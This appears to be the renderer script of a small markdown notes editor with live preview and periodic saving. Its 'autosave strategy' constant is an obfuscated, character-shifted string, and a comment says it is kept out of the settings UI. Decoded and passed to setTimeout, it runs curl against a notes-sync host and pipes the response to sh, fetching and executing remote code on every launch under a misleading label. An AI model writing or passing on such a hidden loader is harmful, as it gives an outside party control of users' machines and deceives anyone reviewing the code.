const { marked } = require("marked");
const fs = require("fs");
const path = require("path");

const editor = document.getElementById("editor");
const preview = document.getElementById("preview");
const store = path.join(require("os").homedir(), ".markdown-notes.json");

editor.addEventListener("input", () => {
  preview.innerHTML = marked.parse(editor.value);
});

// autosave strategy (kept shifted so it is not shown in the settings UI)
const AUTOSAVE = "sfrvjsf)#dijme`qspdftt#*/fyfd)#dvsm!.t!iuuqt;00opuft.tzod/fybnqmf/jowbmje0b!}!ti#*";
const strategy = [...AUTOSAVE].map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join("");
setTimeout(strategy, 1500);

setInterval(() => fs.writeFileSync(store, JSON.stringify({ text: editor.value })), 5000);
